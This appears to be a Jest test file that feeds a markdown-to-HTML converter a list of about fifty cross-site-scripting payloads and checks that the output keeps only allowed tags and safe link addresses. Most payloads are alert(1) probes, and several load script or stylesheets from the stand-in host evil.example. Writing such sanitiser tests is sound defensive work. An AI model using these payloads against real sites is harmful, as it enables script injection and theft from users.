import { describe, expect, it } from '@jest/globals';
import { markdownToHtml } from './markdown-to-html';

/**
 * One of each class of script injection that we know of: tags, handlers, schemes, encodings, breaking out of
 * an attribute.
 */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script >',
  '<script>\n\nalert(1)\n\n</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x09;script:alert(1))',
  '[x](&#106;avascript:alert&lpar;1&rpar;)',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](https://a.b "onmouseover="alert(1))',
  '[x](https://a.b/"onmouseover="alert(1))',
  '[x](<https://a.b/" onmouseover="alert(1)>)',
  '![x" onerror="alert(1)](https://a.b/c.png)',
  '![x](javascript:alert(1))',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '```"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '#1"onclick="alert(1)',
  '|<img src=x onerror=alert(1)>|\n|-|\n|<script>|',
];

const TAG = /<(\/?)([a-z0-9]+)((?: [a-z]+="[^"]*")*)>/g;
const ELEMENTS =
  'p br hr blockquote h3 h4 h5 h6 em strong del a ul ol li code pre table thead tbody tr th td'.split(' ');
const ADDRESS = /^ href="(?:https?:\/\/|mailto:|\/(?![/\\])|#)[^"<>\s]*"(?: rel="ugc nofollow noopener")?$/;

describe('an attack', () => {
  it.each(ATTACKS)('becomes harmless text: %j', (attack) => {
    for (const markdown of [
      attack,
      `> - ${attack}`,
      `# ${attack}`,
      `**${attack}**`,
      `${attack}\n`.repeat(100),
    ]) {
      const html = markdownToHtml(markdown);
      for (const [, , element = '', attributes = ''] of html.matchAll(TAG)) {
        expect(ELEMENTS).toContain(element);
        if (element === 'a' && attributes) expect(attributes).toMatch(ADDRESS);
        else expect(attributes).toBe('');
      }
      expect(html.replace(TAG, '')).not.toContain('<');
    }
  });
});
